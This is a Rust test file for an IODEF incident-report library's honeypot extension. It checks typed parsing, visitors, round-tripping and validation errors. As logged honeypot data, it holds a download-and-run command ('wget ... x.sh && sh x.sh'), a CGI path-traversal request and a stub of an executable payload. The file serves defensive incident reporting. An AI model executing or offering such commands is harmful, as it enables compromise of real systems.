//! The honeypot extension through `iodef`'s public face only: typed reading inside
//! `AdditionalData`, the visitor, writing back, refusals with path and line:column, the
//! `ext-value`/`ext-*` pair, and agreement with `xmllint --schema`.

use std::path::{Path, PathBuf};
use std::process::Command;

use iodef::bindings::Root;
use iodef::v2::{AddressCategoryType, IodefDocument};
use iodef::{Document, ErrorKind, MixedNode};
use iodef_honeypot_example::honeypot::{
    self, CommandType, HoneypotObservation, HoneypotObservationChoice, InteractionType, SessionType,
};

const FIXTURE: &str = include_str!("fixtures/honeypot.xml");

/// Path of the first observation (in `EventData`) and of the second (in the Incident's own
/// `AdditionalData`).
const FIRST: &str =
    "/IODEF-Document/Incident[1]/EventData[1]/AdditionalData[1]/HoneypotObservation[1]";
const SECOND: &str = "/IODEF-Document/Incident[1]/AdditionalData[1]/HoneypotObservation[1]";

fn read(xml: &str) -> Result<Document<IodefDocument>, iodef::Error> {
    iodef_honeypot_example::init();
    Document::<IodefDocument>::from_slice(xml.as_bytes())
}

/// 1-based line and character column of the first occurrence of `needle` in `text`.
fn position_of(text: &str, needle: &str) -> (u64, u64) {
    let at = text
        .find(needle)
        .unwrap_or_else(|| panic!("{needle:?} not in the text"));
    let before = &text[..at];
    let line = before.matches('\n').count() as u64 + 1;
    let line_start = before.rfind('\n').map_or(0, |i| i + 1);
    (line, before[line_start..].chars().count() as u64 + 1)
}

/// `text` with `from` replaced by `to` exactly once.
fn mutate(text: &str, from: &str, to: &str) -> String {
    assert_eq!(text.matches(from).count(), 1, "{from:?} must occur once");
    text.replacen(from, to, 1)
}

/// The observations of every `AdditionalData` of the first incident, through the typed
/// content of each (not the visitor), in document order.
fn observations_by_hand(doc: &Document<IodefDocument>) -> Vec<&HoneypotObservation> {
    let incident = &doc.root.incident[0];
    let in_event_data = incident.event_data.iter().flat_map(|e| &e.additional_data);
    in_event_data
        .chain(&incident.additional_data)
        .flat_map(|data| data.content.typed_as::<honeypot::Element>())
        .map(|element| match element {
            honeypot::Element::HoneypotObservation(o) => &**o,
        })
        .collect()
}

#[test]
fn extension_content_is_typed() {
    let doc = read(FIXTURE).unwrap();
    let data = &doc.root.incident[0].event_data[0].additional_data[0];
    // The element is a typed node of the mixed content, not raw XML.
    assert_eq!(
        data.content.elements().count(),
        0,
        "no raw element left: {:?}",
        data.content
    );
    let typed: Vec<_> = data.content.typed().collect();
    assert_eq!(typed.len(), 1);
    assert_eq!(typed[0].namespace(), honeypot::NAMESPACE);
    assert_eq!(typed[0].local_name(), "HoneypotObservation");
    assert!(typed[0].downcast_ref::<honeypot::Element>().is_some());
    // The node holds the module's Element enum, not the struct it boxes.
    assert!(typed[0].downcast_ref::<HoneypotObservation>().is_none());
    assert!(data
        .content
        .0
        .iter()
        .any(|n| matches!(n, MixedNode::Typed(_))));

    // `iodef::read` (any root) types it the same way.
    let any = iodef::read(FIXTURE.as_bytes()).unwrap();
    let Root::Iodef2(iodef::v2::Element::IodefDocument(d)) = &any.root else {
        panic!("root {}", any.root.local_name());
    };
    assert_eq!(**d, doc.root);
}

#[test]
fn fields_have_the_values_of_the_document() {
    let doc = read(FIXTURE).unwrap();
    let found = observations_by_hand(&doc);
    assert_eq!(found.len(), 2);
    let (ssh, smb) = (found[0], found[1]);

    assert_eq!(ssh.sensor_id, "ssh-trap-7");
    assert_eq!(
        ssh.interaction,
        Some(InteractionType::Ext("full-system".into()))
    );
    assert!(ssh.unpaired_ext.is_empty());
    assert_eq!(
        ssh.sampling_rate.as_ref().map(|r| r.canonical()),
        Some("10".into())
    );
    assert_eq!(ssh.sampling_rate().canonical(), "10");
    let first_seen = ssh.first_seen.as_ref().expect("FirstSeen");
    assert_eq!(first_seen.as_str(), "2024-03-01T11:58:07.250+01:00");
    assert_eq!(
        (first_seen.hour(), first_seen.minute(), first_seen.second()),
        (11, 58, 7)
    );
    assert_eq!(first_seen.fraction(), "250");
    let HoneypotObservationChoice::Session(session) = &ssh.choice else {
        panic!("expected Session, got {:?}", ssh.choice);
    };
    assert_eq!(session.port, 2222);
    assert_eq!(session.protocol.as_deref(), Some("ssh"));
    let commands: Vec<(&str, Option<String>)> = ssh
        .command
        .iter()
        .map(|c| {
            (
                c.value.as_str(),
                c.exit_code.as_ref().map(|e| e.canonical()),
            )
        })
        .collect();
    assert_eq!(
        commands,
        [
            ("uname -a", Some("0".to_string())),
            (
                "wget http://198.51.100.7/x.sh && sh x.sh",
                Some("127".to_string())
            ),
            ("exit", None),
        ]
    );
    // The IODEF 2.0 types inside the extension are iodef's own.
    let address: &iodef::v2::Address = ssh.address.as_ref().expect("Address");
    assert_eq!(address.value, "192.0.2.10");
    assert_eq!(address.category, Some(AddressCategoryType::Ipv4Addr));
    assert_eq!(
        address.vlan_num.as_ref().map(|n| n.canonical()),
        Some("12".into())
    );
    let note: &iodef::v2::MlStringType = ssh.note.as_ref().expect("Note");
    assert_eq!(note.value, "Credential stuffing, then a dropper.");
    assert_eq!(note.lang.as_deref(), Some("en"));

    assert_eq!(smb.sensor_id, "smb-trap-2");
    assert_eq!(smb.interaction, Some(InteractionType::Low));
    assert!(smb.sampling_rate.is_none(), "absent attribute stays absent");
    assert_eq!(smb.sampling_rate().canonical(), "1", "schema default");
    assert!(smb.first_seen.is_none() && smb.command.is_empty() && smb.address.is_none());
    let HoneypotObservationChoice::Payload(payload) = &smb.choice else {
        panic!("expected Payload, got {:?}", smb.choice);
    };
    assert_eq!(&payload.0[..4], b"MZ\x90\x00");
    assert_eq!(payload.0.len(), 12);
}

#[test]
fn the_visitor_finds_extension_values() {
    let doc = read(FIXTURE).unwrap();
    let found = doc.find_all::<HoneypotObservation>();
    let sensors: Vec<&str> = found.iter().map(|o| o.sensor_id.as_str()).collect();
    assert_eq!(sensors, ["ssh-trap-7", "smb-trap-2"], "document order");
    // The same values as reached by hand through AdditionalData.
    let by_hand = observations_by_hand(&doc);
    assert!(found
        .iter()
        .zip(&by_hand)
        .all(|(a, b)| std::ptr::eq(*a, *b)));

    // Into the extension's own types, and into the IODEF types it holds.
    let commands: Vec<&str> = doc
        .find_all::<CommandType>()
        .iter()
        .map(|c| c.value.as_str())
        .collect();
    assert_eq!(
        commands,
        [
            "uname -a",
            "wget http://198.51.100.7/x.sh && sh x.sh",
            "exit"
        ]
    );
    assert_eq!(doc.find_all::<SessionType>().len(), 1);
    let addresses: Vec<(&str, Option<String>)> = doc
        .find_all::<iodef::v2::Address>()
        .iter()
        .map(|a| (a.value.as_str(), a.vlan_num.as_ref().map(|n| n.canonical())))
        .collect();
    // The Flow's Address, then the one inside the first observation.
    assert_eq!(
        addresses,
        [("192.0.2.10", None), ("192.0.2.10", Some("12".to_string()))]
    );

    // Mutably: what is changed through the visitor is written.
    let mut doc = doc;
    doc.for_each_mut::<HoneypotObservation>(|o| o.sensor_id.push_str("-renamed"));
    let again = read(&doc.to_xml_string()).unwrap();
    let sensors: Vec<String> = again
        .find_all::<HoneypotObservation>()
        .iter()
        .map(|o| o.sensor_id.clone())
        .collect();
    assert_eq!(sensors, ["ssh-trap-7-renamed", "smb-trap-2-renamed"]);
}

/// The extension crate's own generated `Visit` trait (syn-style): its visitor sees the
/// extension's types inside an IODEF document, as `find_all` does; IODEF's trait, run over the
/// same document, sees the IODEF Address inside the extension content.
#[test]
fn the_generated_visitor_traits_reach_extension_types() {
    struct Commands<'ast>(Vec<&'ast str>);
    impl<'ast> iodef_honeypot_example::honeypot::Visit<'ast> for Commands<'ast> {
        fn visit_command_type(&mut self, node: &'ast CommandType) {
            self.0.push(&node.value);
        }
    }
    struct Addresses(usize);
    impl<'ast> iodef::v2::Visit<'ast> for Addresses {
        fn visit_address(&mut self, _: &'ast iodef::v2::Address) {
            self.0 += 1;
        }
    }
    let doc = read(FIXTURE).unwrap();
    let mut commands = Commands(Vec::new());
    iodef_honeypot_example::honeypot::visit(&doc.root, &mut commands);
    let expected: Vec<&str> = doc
        .find_all::<CommandType>()
        .iter()
        .map(|c| c.value.as_str())
        .collect();
    assert_eq!(commands.0, expected);
    assert_eq!(commands.0.len(), 3);
    let mut addresses = Addresses(0);
    iodef::v2::visit(&doc.root, &mut addresses);
    assert_eq!(addresses.0, 2);
}

#[test]
fn writing_back_keeps_the_infoset() {
    let doc = read(FIXTURE).unwrap();
    let written = doc.to_xml_string();
    let reread = read(&written).unwrap_or_else(|e| panic!("{e}\n{written}"));
    assert_eq!(reread, doc);
    assert_eq!(
        reread.find_all::<HoneypotObservation>().len(),
        2,
        "still typed after writing"
    );
    // The written form is a fixed point of read + write.
    assert_eq!(reread.to_xml_string(), written);
    // The extension keeps its namespace (with the catalog's preferred prefix) and its values.
    assert!(
        written.contains("urn:example:iodef:honeypot-1.0"),
        "{written}"
    );
    assert!(written.contains("<hp:HoneypotObservation "), "{written}");
    assert!(
        written.contains("wget http://198.51.100.7/x.sh &amp;&amp; sh x.sh"),
        "{written}"
    );
    assert!(
        written.contains(">TVqQAAMAAAAEAAAA</hp:Payload>"),
        "{written}"
    );
    // Comments in the extension content stay where they were.
    let commented = mutate(
        FIXTURE,
        "<hp:Command>exit",
        "<!-- last one --><hp:Command>exit",
    );
    let doc = read(&commented).unwrap();
    let written = doc.to_xml_string();
    assert!(
        written.contains("<!-- last one --><hp:Command>exit</hp:Command>"),
        "{written}"
    );
    assert_eq!(read(&written).unwrap(), doc);
}

#[test]
fn ext_value_pair_round_trips() {
    let doc = read(FIXTURE).unwrap();
    let written = doc.to_xml_string();
    assert!(written.contains(r#"interaction="ext-value""#), "{written}");
    assert!(
        written.contains(r#"ext-interaction="full-system""#),
        "{written}"
    );

    // Built in code: the Ext variant writes both attributes, and reads back as the same value.
    let mut doc = doc;
    doc.for_each_mut::<HoneypotObservation>(|o| {
        if o.sensor_id == "smb-trap-2" {
            o.interaction = Some(InteractionType::Ext("tarpit".into()));
        }
    });
    let written = doc.to_xml_string();
    assert!(
        written.contains(r#"interaction="ext-value" ext-interaction="tarpit""#),
        "{written}"
    );
    let reread = read(&written).unwrap();
    assert_eq!(
        reread.find_all::<HoneypotObservation>()[1].interaction,
        Some(InteractionType::Ext("tarpit".into()))
    );
    assert_eq!(reread, doc);

    // An ext-interaction whose partner is not ext-value breaks RFC 7970 §5.1.1 but not the
    // schema: kept aside and written back.
    let unpaired = mutate(
        FIXTURE,
        r#"interaction="low">"#,
        r#"interaction="low" ext-interaction="sticky">"#,
    );
    let doc = read(&unpaired).unwrap();
    let smb = doc.find_all::<HoneypotObservation>()[1];
    assert_eq!(smb.interaction, Some(InteractionType::Low));
    assert_eq!(
        smb.unpaired_ext,
        [("ext-interaction".to_string(), "sticky".to_string())]
    );
    let written = doc.to_xml_string();
    assert!(written.contains(r#"ext-interaction="sticky""#), "{written}");
    assert_eq!(read(&written).unwrap(), doc);
}

#[test]
fn a_built_observation_is_written_and_read_back() {
    let mut observation = HoneypotObservation::new(
        "web-trap-1",
        HoneypotObservationChoice::Session(Box::new(SessionType::new(8080))),
    );
    observation.interaction = Some(InteractionType::Medium);
    observation
        .command
        .push(CommandType::new("GET /cgi-bin/.%2e/bin/sh"));
    let mut doc = read(FIXTURE).unwrap();
    let data = &mut doc.root.incident[0].additional_data[0];
    data.content.0.push(MixedNode::Typed(Box::new(
        honeypot::Element::HoneypotObservation(Box::new(observation.clone())),
    )));
    let report = doc.validate();
    assert!(report.is_valid(), "{:?}", report.errors);
    // Document::validate checks the extension content as written, against our schema: an
    // attribute it does not declare (smuggled through `unpaired_ext`) is an error there.
    let mut bad = doc.clone();
    bad.for_each_mut::<HoneypotObservation>(|o| {
        if o.sensor_id == "web-trap-1" {
            o.unpaired_ext.push(("ext-colour".into(), "red".into()));
        }
    });
    let report = bad.validate();
    assert_eq!(report.errors.len(), 1, "{:?}", report.errors);
    let err = &report.errors[0];
    assert_eq!(
        err.path,
        "/IODEF-Document/Incident[1]/AdditionalData[1]/HoneypotObservation[2]"
    );
    assert!(err.message.contains("ext-colour"), "{err}");
    let reread = read(&doc.to_xml_string()).unwrap();
    let found = reread.find_all::<HoneypotObservation>();
    assert_eq!(found.len(), 3);
    assert_eq!(*found[2], observation);
}

/// Reads `xml`, which must be refused with `kind` at the element `path`, at the position of
/// `at` in `xml`, with a message containing `says`.
#[track_caller]
fn assert_refused(xml: &str, kind: ErrorKind, path: &str, at: &str, says: &str) {
    let err = read(xml).expect_err("must be refused");
    let (line, column) = position_of(xml, at);
    assert_eq!(err.kind, kind, "{err}");
    assert_eq!(err.path, path, "{err}");
    assert_eq!((err.line, err.column), (line, column), "{err}");
    assert!(err.message.contains(says), "{err}");
    // The displayed error carries all of it.
    let shown = err.to_string();
    assert!(
        shown.contains(&format!("{line}:{column}")) && shown.contains(path),
        "{shown}"
    );
}

#[test]
fn invalid_extension_content_is_refused_with_path_and_position() {
    // Missing the required attribute.
    let xml = mutate(FIXTURE, r#"sensor-id="smb-trap-2" "#, "");
    assert_refused(
        &xml,
        ErrorKind::MissingAttribute,
        SECOND,
        "<hp:HoneypotObservation interaction=\"low\"",
        "sensor-id",
    );

    // A value outside the enumeration.
    let xml = mutate(FIXTURE, r#"interaction="low""#, r#"interaction="lowish""#);
    // At the attribute, not only its element.
    assert_refused(
        &xml,
        ErrorKind::InvalidValue,
        SECOND,
        r#"interaction="lowish""#,
        "lowish",
    );

    // Elements out of order: a Command before the Session.
    let xml = mutate(
        FIXTURE,
        "<hp:Session>",
        "<hp:Command>id</hp:Command>\n          <hp:Session>",
    );
    // The reader wants the choice where the Command is: reported at the Command, in its parent.
    assert_refused(
        &xml,
        ErrorKind::MissingElement,
        FIRST,
        "<hp:Command>id",
        "Session",
    );

    // Neither alternative of the choice.
    let xml = mutate(FIXTURE, "<hp:Payload>TVqQAAMAAAAEAAAA</hp:Payload>", "");
    let end_tag = "</hp:HoneypotObservation>\n    </AdditionalData>\n  </Incident>";
    // Both engines name every alternative.
    assert_refused(
        &xml,
        ErrorKind::MissingElement,
        SECOND,
        end_tag,
        "missing required element Session or Payload",
    );
    let report = iodef::rt::validate::validate(xml.as_bytes());
    assert_eq!(report.errors.len(), 1, "{:?}", report.errors);
    let err = &report.errors[0];
    assert_eq!(
        (err.path.as_str(), err.line, err.column),
        (
            SECOND,
            position_of(&xml, end_tag).0,
            position_of(&xml, end_tag).1
        )
    );
    assert!(err.message.contains("Session or Payload"), "{err}");

    // A bad value in a child of an IODEF type inside the extension.
    let xml = mutate(FIXTURE, r#"vlan-num="12""#, r#"vlan-num="twelve""#);
    assert_refused(
        &xml,
        ErrorKind::InvalidValue,
        &format!("{FIRST}/Address[1]"),
        r#"vlan-num="twelve""#,
        "twelve",
    );
}

#[test]
fn the_fixture_keeps_the_rfc_prose_rules() {
    // xml:lang and xsi:schemaLocation on IODEF-Document (RFC 7970 §6, §4.2), ...: no finding.
    let findings = iodef::rules::check(FIXTURE.as_bytes());
    assert!(findings.is_empty(), "{findings:?}");
}

#[test]
fn the_collecting_validator_checks_extension_content() {
    iodef_honeypot_example::init();
    assert!(iodef::rt::validate::validate(FIXTURE.as_bytes()).is_valid());
    // Two faults at once, both reported, in document order, with their positions.
    let xml = mutate(FIXTURE, r#"vlan-num="12""#, r#"vlan-num="twelve""#);
    let xml = mutate(&xml, r#"interaction="low""#, r#"interaction="lowish""#);
    let report = iodef::rt::validate::validate(xml.as_bytes());
    let found: Vec<(&str, u64)> = report
        .errors
        .iter()
        .map(|e| (e.path.as_str(), e.line))
        .collect();
    let address_line = position_of(&xml, "twelve").0;
    let smb_line = position_of(&xml, "lowish").0;
    assert_eq!(
        found,
        [
            (format!("{FIRST}/Address[1]").as_str(), address_line),
            (SECOND, smb_line)
        ],
        "{:?}",
        report.errors
    );
}

// --- xmllint --------------------------------------------------------------------------

fn crate_dir() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// The IODEF schemas beside the checkout (`../shared/schemas`), in the copies whose imports
/// resolve locally (`local/`).
fn iodef_local_schemas() -> PathBuf {
    let dir = crate_dir().join("../../shared/schemas/local");
    assert!(
        dir.join("iodef-2.0.xsd").is_file(),
        "IODEF schemas not found at {}",
        dir.display()
    );
    dir.canonicalize().unwrap()
}

/// A driver schema importing IODEF 2.0 (local copy) and the honeypot schema, so that
/// `xmllint` validates the lax `AdditionalData` content against our declarations.
fn xmllint_driver() -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("honeypot-xmllint");
    std::fs::create_dir_all(&dir).unwrap();
    let honeypot = crate_dir()
        .join("schemas/honeypot-1.0.xsd")
        .canonicalize()
        .unwrap();
    let driver = format!(
        r#"<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
  <xs:import namespace="urn:ietf:params:xml:ns:iodef-2.0" schemaLocation="{}"/>
  <xs:import namespace="urn:example:iodef:honeypot-1.0" schemaLocation="{}"/>
</xs:schema>
"#,
        iodef_local_schemas().join("iodef-2.0.xsd").display(),
        honeypot.display()
    );
    let path = dir.join("driver.xsd");
    std::fs::write(&path, driver).unwrap();
    path
}

/// `Some(valid)` from `xmllint --schema`, `None` when xmllint is not installed.
fn xmllint_accepts(name: &str, xml: &str) -> Option<bool> {
    let driver = xmllint_driver();
    let doc = driver.with_file_name(name);
    std::fs::write(&doc, xml).unwrap();
    let out = match Command::new("xmllint")
        .arg("--nonet")
        .arg("--noout")
        .arg("--schema")
        .arg(&driver)
        .arg(&doc)
        .output()
    {
        Ok(out) => out,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return None,
        Err(e) => panic!("xmllint: {e}"),
    };
    let stderr = String::from_utf8_lossy(&out.stderr);
    // Exit 3: the document is invalid; 4 and 5: the schemas did not load or compile (no verdict).
    assert!(
        matches!(out.status.code(), Some(0 | 3)),
        "xmllint {name}: {:?}\n{stderr}",
        out.status
    );
    if !out.status.success() {
        eprintln!("xmllint {name}: {stderr}");
    }
    Some(out.status.success())
}

#[test]
fn xmllint_agrees() {
    let Some(valid) = xmllint_accepts("fixture.xml", FIXTURE) else {
        eprintln!("note: xmllint not installed; skipping the xmllint check (.ci/run installs it)");
        return;
    };
    assert!(valid, "xmllint refuses tests/fixtures/honeypot.xml");

    // What we write back validates too.
    let written = read(FIXTURE).unwrap().to_xml_string();
    assert_eq!(
        xmllint_accepts("written.xml", &written),
        Some(true),
        "{written}"
    );

    // xmllint refuses what our reader refuses (so it does check the extension content).
    let invalid = [
        mutate(FIXTURE, r#"sensor-id="smb-trap-2" "#, ""),
        mutate(FIXTURE, r#"interaction="low""#, r#"interaction="lowish""#),
        mutate(
            FIXTURE,
            "<hp:Session>",
            "<hp:Command>id</hp:Command><hp:Session>",
        ),
        mutate(FIXTURE, r#"vlan-num="12""#, r#"vlan-num="twelve""#),
    ];
    for (i, xml) in invalid.iter().enumerate() {
        assert!(read(xml).is_err());
        assert_eq!(
            xmllint_accepts(&format!("invalid-{i}.xml"), xml),
            Some(false),
            "{xml}"
        );
    }
}
